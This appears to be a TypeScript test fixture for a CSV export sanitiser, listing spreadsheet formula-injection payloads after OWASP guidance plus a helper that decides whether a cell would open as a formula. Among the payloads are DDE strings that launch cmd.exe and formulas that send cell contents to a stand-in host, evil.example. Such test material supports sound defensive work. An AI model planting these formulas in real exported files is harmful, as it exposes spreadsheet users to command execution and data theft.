// Spreadsheet formula ("CSV injection") payloads for the tests, after the OWASP page "CSV Injection"
// (https://owasp.org/www-community/attacks/CSV_Injection) and George Mauer's "The Absurdly
// Underestimated Dangers of CSV Injection" (2017), plus variants behind leading spaces and quotes
// and in full-width / small-form Unicode. Not part of the public API.

/** Text a spreadsheet could run as a formula (or that leads into one) when it starts a cell. */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+1',
  '+1',
  '-1',
  '@',
  '=',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"!A0")',
  'DDE ("cmd";"/C calc";"!A0")A0',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '"=1+1',
  "'=1+1",
  "''=1+1",
  '" =1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe661+1',
  '\ufe621+1',
  '\ufe631+1',
  '\ufe6bSUM(1)',
];

/** Characters that make a spreadsheet read a cell as a formula when the cell starts with them. */
const TRIGGER = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
/** Leading characters a spreadsheet (or its import dialogue) may skip before looking for a trigger. */
const LEAD = /^[\s"'\u00a0\u3000]*/;

/**
 * True when `cell`, as a spreadsheet opens it, could start a formula: its first character is a
 * trigger, or it does not start with the neutralising `'` and a trigger follows leading spaces or
 * quotes. Written independently of the implementation: this is the test's definition of "safe".
 */
export function opensAsFormula(cell: string): boolean {
  if (TRIGGER.test(cell)) return true;
  if (cell.startsWith("'")) return false;
  return TRIGGER.test(cell.replace(LEAD, '')) || /^[\s"']*[\t\r]/.test(cell);
}
